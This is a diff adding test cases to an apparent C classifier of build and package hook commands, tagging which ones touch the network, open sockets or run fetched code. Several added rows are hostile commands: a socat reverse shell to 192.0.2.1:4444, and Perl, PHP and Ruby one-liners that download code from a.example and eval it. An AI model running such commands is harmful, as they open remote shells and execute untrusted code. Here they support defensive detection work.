@@ -69,6 +69,13 @@ static const struct {
 	{"concurrently -k \"node x.js\" npm:b", {HOOK_BUILDER, HOOK_FILE, HOOK_SCRIPT}, "b", 0},
 	{"lerna run go", {HOOK_BUILDER, HOOK_SCRIPT}, "go", 0},
 	{"lerna bootstrap", {HOOK_BUILDER}, "lerna", 0},
+	{"go run tools.example.com/x@latest", {HOOK_NETWORK}, "tools.example.com/x@latest", HOOK_RUNS_FETCHED},
+	{"go run ./cmd/x", {HOOK_FILE}, "cmd/x", 0},
+	{"socat tcp-connect:192.0.2.1:4444 exec:/bin/sh,pty,stderr", {HOOK_NETWORK}, NULL, HOOK_SOCKET},
+	{"perl -e 'use LWP::Simple;eval get(\"https://a.example/x\")'", {HOOK_INLINE}, NULL, HOOK_RUNS_FETCHED},
+	{"php -r \"eval(file_get_contents('https://a.example/x'));\"", {HOOK_INLINE}, NULL, HOOK_RUNS_FETCHED},
+	{"ruby -e \"require 'open-uri';eval(URI.open('https://a.example/x').read)\"", {HOOK_INLINE}, NULL, HOOK_RUNS_FETCHED},
+	{"php -r \"echo file_get_contents('VERSION');\"", {HOOK_INLINE}, NULL, 0},
 	/* where it runs */
 	{"cd sub && node x.js", {HOOK_IDLE, HOOK_FILE}, "sub/x.js", 0},
 	{"cd ./a/; cd b; node x.js", {HOOK_IDLE, HOOK_IDLE, HOOK_FILE}, "a/b/x.js", 0},
